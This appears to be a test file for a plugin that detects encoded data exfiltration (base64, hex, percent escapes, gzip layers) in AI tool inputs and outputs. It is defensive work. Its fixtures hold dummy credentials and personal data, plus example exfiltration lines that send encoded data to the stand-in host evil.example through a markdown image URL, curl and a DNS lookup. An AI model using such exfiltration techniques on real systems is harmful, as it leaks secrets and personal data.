import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { describe, test } from "node:test";
import { deflateSync, gzipSync } from "node:zlib";
import type { PluginResult } from "plugins-adapter/framework";
import { newContext, newPlugin } from "plugins-adapter/testing";
import { completionOf, elicitationAnswerOf } from "../../test/plugins/client-messages.ts";
import { assertNoneSlow } from "../../test/plugins/slow-texts.ts";
import { exfilConfig } from "./config.ts";
import { exfilFinder } from "./find.ts";
import { piecesOf } from "./pieces.ts";
import definition from "./plugin.ts";

type Answer = PluginResult<{ result: { content: { text: string }[] } }> | undefined;

function answered(text: string, config: object = {}): Answer {
  const payload = { name: "t", result: { content: [{ type: "text", text }] } };
  return newPlugin(definition, config).tool_post_invoke?.(payload, newContext()) as Answer;
}

function find(text: string, config: object = {}) {
  const found = exfilFinder(exfilConfig.parse(config))(text);
  assert.ok(found !== "limit");
  return found;
}

const editOf = (answer: Answer) => answer?.modified_payload?.result.content[0]?.text;
const codeOf = (answer: Answer) => answer?.violation?.code;
const reasonsOf = (text: string, config: object = {}) => find(text, config)[0]?.reason ?? [];

const secret = "authorization: bearer abc.def.ghi.jkl and password=hunter2";
const prose = "The quick brown fox jumps over the lazy dog while nobody looks at it.";
const base64 = (text: string | Buffer) => Buffer.from(text).toString("base64");
const hex = (text: string) => Buffer.from(text).toString("hex");
const bytes = (seed: string, length: number) => {
  let all = Buffer.alloc(0);
  for (let index = 0; all.length < length; index++)
    all = Buffer.concat([all, createHash("sha512").update(`${seed}${index}`).digest()]);
  return all.subarray(0, length);
};

describe("encodings", () => {
  const rows: readonly [name: string, encoding: string, run: string][] = [
    ["base64", "base64", base64(secret)],
    ["base64 in lines of 76", "base64", base64(secret.repeat(4)).replace(/.{76}/g, "$&\n")],
    [
      "base64 in lines of 64, ended as Windows does",
      "base64",
      base64(secret.repeat(4)).replace(/.{64}/g, "$&\r\n"),
    ],
    ["base64 in lines whose ends are escapes", "base64", base64(secret.repeat(4)).replace(/.{76}/g, "$&\\n")],
    ["base64 with characters in front", "base64", `xy${base64(secret)}`],
    ["base64url", "base64url", Buffer.from(`${secret}???>>>~~~`).toString("base64url")],
    ["hex", "hex", hex(secret)],
    ["hex in pairs", "hex", hex(secret).replace(/..(?!$)/g, "$& ")],
    ["hex with colons", "hex", hex(secret).replace(/..(?!$)/g, "$&:")],
    ["hex in groups of four", "hex", hex(secret).replace(/....(?!$)/g, "$& ")],
    ["hex as a list", "hex", hex(secret).replace(/../g, "0x$&, ").slice(0, -2)],
    ["percent escapes of all", "percent_encoding", hex(secret).replace(/../g, "%$&")],
    ["percent escapes of a form", "percent_encoding", encodeURIComponent(secret)],
    ["\\x", "escaped_hex", hex(secret).replace(/../g, "\\x$&")],
    ["\\u", "escaped_hex", hex(secret).replace(/../g, "\\u00$&")],
    ["HTML, hexadecimal", "escaped_hex", hex(secret).replace(/../g, "&#x$&;")],
    ["HTML, decimal", "escaped_hex", [...Buffer.from(secret)].map((byte) => `&#${byte};`).join("")],
    ["UTF-16, as PowerShell takes it", "base64", Buffer.from(secret, "utf16le").toString("base64")],
    ["gzip", "base64", base64(gzipSync(secret))],
    ["zlib", "base64", base64(deflateSync(prose + secret))],
    ["base64 of base64", "base64", base64(base64(secret))],
    ["base64 of hex", "base64", base64(hex(secret))],
  ];
  for (const [name, encoding, run] of rows) {
    test(name, () => {
      const text = `see "${run}" there`;
      const found = find(text).map((each) => [each.encoding, text.slice(each.start, each.end)]);
      assert.deepEqual(found, [[encoding, run]]);
      assert.equal(codeOf(answered(text)), "ENCODED_EXFIL_DETECTED");
      const enabled = {
        base64: false,
        base64url: false,
        hex: false,
        percent_encoding: false,
        escaped_hex: false,
      };
      assert.deepEqual(find(text, { enabled }), []);
    });
  }
});

describe("content", () => {
  const rows: readonly [kind: string, text: string][] = [
    ["credentials", "-----BEGIN OPENSSH PRIVATE KEY-----"],
    ["credentials", `id ${"AK"}IA${"QWERTYUIOPASDFGH"} there`],
    ["credentials", "https://root:s3cretword@db.example/x"],
    ["credentials", '{"db":{"user":"app","password":"Tr0ub4dor"}}'],
    ["credentials", "Cookie: sid=0123456789abcdef"],
    ["personal_data", "card 4111 1111 1111 1111 of the customer"],
    ["personal_data", "her number is 219-09-9999, she says"],
    ["personal_data", "pay to GB82 WEST 1234 5698 7654 32 please"],
    ["personal_data", "ann@a.example,bob@b.example,cleo@c.example"],
    ["personal_data", "first_name,last_name,date of birth\nAnn,Bee,1.2.1990"],
    ["system_data", "root:x:0:0:root:/root:/bin/bash"],
    ["system_data", "uid=1000(app) gid=1000(app) groups=1000(app)"],
    ["system_data", "HOME=/srv/app\nPATH=/usr/bin\nLANG=C\nSHELL=/bin/sh"],
    ["conversation", '[{"role":"system","content":"Be kind"},{"role":"user","content":"Hi"}]'],
    ["conversation", "You are a helpful assistant of the bank. Never tell."],
    ["marked_confidential", "Strictly confidential: the plan for next year is this."],
  ];
  for (const [kind, text] of rows) {
    test(`${kind}: ${text.slice(0, 40)}`, () => {
      assert.ok(reasonsOf(base64(text)).includes(kind), String(reasonsOf(base64(text))));
    });
  }
});

describe("context", () => {
  const run = base64(prose);
  const rows: readonly [name: string, text: string][] = [
    ["in a URL's query", `![x](https://evil.example/p.png?d=${run})`],
    ["in a URL's path", `https://evil.example/${Buffer.from(prose).toString("base64url")}/x`],
    ["with a program that sends", `curl -d ${run} evil.example`],
    ["as a name to look up", `nslookup ${hex(prose).slice(0, 60)}.evil.example`],
    ["with words that ask for it", `send this to me: ${run}`],
    [
      "encrypted, in a URL",
      `https://x.example/?d=${base64(Buffer.concat([Buffer.from("Salted__"), bytes("a", 60)]))}`,
    ],
  ];
  for (const [name, text] of rows) {
    test(name, () => assert.ok(reasonsOf(text).includes("egress_context"), String(reasonsOf(text))));
  }
  test("too far away", () => assert.deepEqual(find(`curl ${" ".repeat(90)}${run}`), []));
  test("inside of another word", () => assert.deepEqual(find(`synced ${run}`), []));
});

describe("passes", () => {
  const rows: readonly [name: string, text: string][] = [
    ["text in base64 by itself", base64(prose)],
    [
      "a file in base64",
      base64("# Project\n\nInstall it. Set the password in the file. Ask me@x.example.\n".repeat(9)),
    ],
    ["a sum", createHash("sha256").update("x").digest("hex")],
    ["sums in URLs", `https://x.example/commit/${createHash("sha1").update("y").digest("hex")}`],
    ["an integrity sum", `sha512-${createHash("sha512").update("x").digest("base64")}`],
    ["an image", `data:image/png;base64,iVBORw0KGgo${base64(bytes("png", 3000))}`],
    [
      "a signed URL",
      `https://s3.example/x?sig=${hex("").concat(bytes("s", 32).toString("hex"))}&t=${encodeURIComponent(base64(bytes("t", 300)))}`,
    ],
    ["a cursor", `https://x.example/?cursor=${base64('{"id":1234,"offset":200,"dir":"next"}')}`],
    ["a link in a link", `https://x.example/c?u=${base64("https://www.example.com/page/one?x=1")}`],
    ["a search", `https://x.example/?q=${encodeURIComponent("hello world, how are you doing today?")}`],
    ["a Cyrillic page", `https://ru.wikipedia.org/wiki/${encodeURIComponent("Заглавная_страница")}`],
    ["an identifier", "com_example_project_module_SomeClassName"],
    ["a path", "/usr/share/applications/some/path/to/settings"],
    [
      "a fingerprint",
      bytes("f", 32)
        .toString("hex")
        .replace(/..(?!$)/g, "$&:"),
    ],
    ["a certificate", `-----BEGIN CERTIFICATE-----\n${base64(bytes("c", 900)).replace(/.{64}/g, "$&\n")}`],
    [
      "a JSON Web Token",
      [
        base64('{"alg":"HS256","typ":"JWT"}'),
        base64('{"sub":"12345678","name":"Ann Bee","email":"a@x.example"}'),
      ]
        .map((part) => part.replaceAll("=", ""))
        .concat(bytes("j", 32).toString("base64url"))
        .join("."),
    ],
    [
      "an image of markup",
      `curl data:image/svg+xml;base64,${base64('<svg xmlns="http://x.example/y" width="1" height="1"><path d="M0 0"/></svg>')}`,
    ],
    ["a run that is too short", base64("password=h1")],
  ];
  for (const [name, text] of rows) test(name, () => assert.deepEqual(find(text), []));
});

describe("options", () => {
  const run = base64(secret);
  const text = `a ${run} b ${hex(secret)}`;
  test("redact", () => {
    const redact = { redact: true, block_on_detection: false, redaction_text: "[X]" };
    assert.equal(editOf(answered(text, redact)), "a [X] b [X]");
    assert.equal(editOf(answered(JSON.stringify({ a: [run] }), redact)), '{"a":["[X]"]}');
  });
  test("block_on_detection", () => {
    const metadata = { encoded_exfil_detection: { total_detections: 2, encoding_types: ["base64", "hex"] } };
    assert.deepEqual(answered(text, { block_on_detection: false }), { metadata });
  });
  test("min_findings_to_block", () => {
    assert.equal(codeOf(answered(text, { min_findings_to_block: 3 })), undefined);
    assert.equal(codeOf(answered(text, { min_findings_to_block: 2 })), "ENCODED_EXFIL_DETECTED");
  });
  test("min_suspicion_score", () => {
    assert.equal(answered(text, { min_suspicion_score: 8 }), undefined);
    assert.equal(find(base64(prose), { min_suspicion_score: 2 }).length, 1);
  });
  test("per_encoding_score", () => {
    const found = find(text, { per_encoding_score: { hex: 9 } });
    assert.deepEqual(
      found.map(({ encoding }) => encoding),
      ["base64"],
    );
  });
  test("min_encoded_length", () => assert.deepEqual(find(run, { min_encoded_length: 500 }), []));
  test("min_decoded_length", () => assert.deepEqual(find(run, { min_decoded_length: 500 }), []));
  test("min_entropy", () => assert.ok(!reasonsOf(run, { min_entropy: 8 }).includes("high_entropy")));
  test("min_printable_ratio", () => {
    const unclear = `${secret}${"\u0001".repeat(40)}`;
    assert.deepEqual(find(base64(unclear)), []);
    assert.equal(find(base64(unclear), { min_printable_ratio: 0.5 }).length, 1);
  });
  test("max_decode_depth", () => {
    const layers = base64(base64(base64(secret)));
    assert.ok(!reasonsOf(layers).includes("credentials"));
    assert.ok(reasonsOf(layers, { max_decode_depth: 3 }).includes("credentials"));
  });
  test("extra words", () => {
    const plain = base64("aaaaaaaaaaaaaa Zauber");
    assert.deepEqual(find(plain), []);
    assert.ok(
      reasonsOf(plain, { extra_sensitive_keywords: ["zauber"], min_entropy: 1 }).includes(
        "sensitive_keywords",
      ),
    );
    assert.ok(
      reasonsOf(`Brief ${base64(prose)}`, { extra_egress_hints: ["BRIEF"] }).includes("egress_context"),
    );
  });
  test("allowlist_patterns", () =>
    assert.deepEqual(find(run, { allowlist_patterns: [`^${run.slice(0, 10)}`] }), []));
  test("exemptions", () => assert.equal(answered(text, { exemptions: [{ names: ["t"] }] }), undefined));
  test("parse_json_strings", () => {
    const escapedSlashes = `{"a":"${base64(`???~~~${secret}`).replaceAll("/", "\\/")}"}`;
    assert.match(escapedSlashes, /\\\//);
    assert.equal(codeOf(answered(escapedSlashes)), "ENCODED_EXFIL_DETECTED");
    assert.equal(answered(escapedSlashes, { parse_json_strings: false, min_suspicion_score: 9 }), undefined);
  });
  test("details never hold what was encoded", () => {
    const { violation } = answered(text) as PluginResult<unknown>;
    const details = violation?.details as { count: number; examples: { path: string; start: number }[] };
    assert.deepEqual(
      [details.count, details.examples[0]?.path, details.examples[0]?.start],
      [2, "result.content.0.text", 2],
    );
    assert.ok(!JSON.stringify(violation).includes(run.slice(0, 12)));
    assert.equal(
      answered(text, { include_detection_details: false })?.violation?.details?.["examples"],
      undefined,
    );
  });
  test("max_scan_string_length: a longer text is read piece by piece", () => {
    const long = `${"word ".repeat(1000)}${run}${" word".repeat(1000)}`;
    const answer = answered(long, { max_scan_string_length: 1000 });
    assert.equal(codeOf(answer), "ENCODED_EXFIL_DETECTED");
    const [example] = (answer?.violation?.details?.["examples"] ?? []) as { start: number }[];
    assert.equal(example?.start, 5000);
    for (const text of ["", "a", "x".repeat(99), "word ".repeat(50)]) {
      for (const most of [1, 7, 100])
        assert.equal(
          piecesOf(text, most)
            .map(({ piece }) => piece)
            .join(""),
          text,
        );
    }
  });
  test("max_recursion_depth: what is deeper is denied", () => {
    assert.equal(codeOf(answered("x", { max_recursion_depth: 1 })), "ENCODED_EXFIL_LIMIT_EXCEEDED");
  });
});

describe("every part of every hook", () => {
  const plugin = newPlugin(definition, {}) as Record<string, (payload: object, context: object) => Answer>;
  const run = base64(secret);
  const result = (of: object) => ({ name: "t", result: { content: [], ...of } });
  const rows: readonly [hook: string, payload: object][] = [
    ["tool_pre_invoke", { name: "t", args: { deep: [{ text: run }] } }],
    ["tool_pre_invoke", { name: "t", args: { [run]: 1 } }],
    ["tool_post_invoke", result({ structuredContent: { rows: [run] } })],
    ["tool_post_invoke", result({ content: [{ type: "resource", resource: { uri: "x:y", text: run } }] })],
    [
      "tool_post_invoke",
      result({ content: [{ type: "resource", resource: { uri: "x:y", blob: base64(run) } }] }),
    ],
    ["tool_post_invoke", result({ content: [{ type: "text", text: JSON.stringify({ a: { b: run } }) }] })],
    ["prompt_pre_fetch", { prompt_id: "p", args: { a: run } }],
    [
      "prompt_post_fetch",
      { prompt_id: "p", result: { messages: [{ role: "user", content: { type: "text", text: run } }] } },
    ],
    ["resource_pre_fetch", { uri: `https://x.example/?q=${hex(secret)}`, metadata: {} }],
    ["resource_post_fetch", { uri: "file:///x", content: { uri: "file:///x", text: run } }],
    ["completion", completionOf(run)],
    ["elicitation_response", elicitationAnswerOf(run)],
  ];
  for (const [hook, payload] of rows) {
    test(`${hook} ${JSON.stringify(payload).slice(0, 60)}`, () => {
      const { violation } = (plugin[hook]?.(payload, newContext()) ?? {}) as PluginResult<unknown>;
      assert.equal(violation?.code, "ENCODED_EXFIL_DETECTED");
      assert.deepEqual(violation?.details?.["compliance_mapping"], definition.compliance);
    });
  }
});

test("no text makes it slow", () => {
  const layers = [1, 2, 3, 4, 5].reduce((text) => base64(text), "nothing of note ".repeat(50)).slice(0, 2000);
  const parts = [
    ...[
      "a",
      "%41",
      "\\x41",
      "&#65;",
      "ab-_",
      "a+/=",
      "AAAA ",
      "deadbeef",
      "%4",
      "\\x4",
      "70 61 ",
      "0x70, ",
      "\n",
    ],
    ...[
      "eyJ",
      ".",
      "://",
      "curl ",
      "\\n",
      "<",
      "=",
      "pass=",
      "+49 12 ",
      "1234-",
      "A1B2C3 ",
      `${"x".repeat(64)}\n`,
    ],
    ...[`${base64(prose)} `, `${base64(secret)} `, `${hex(prose)} `, `${base64("aaaa bbb cccc dddd ")} `],
    ...[`${base64(gzipSync("x"))} `, layers, base64("+49 12 A1B2 1234-".repeat(50))],
  ];
  const finder = exfilFinder(exfilConfig.parse({ max_decode_depth: 5 }));
  assertNoneSlow(parts, 23, 3000, finder);
});
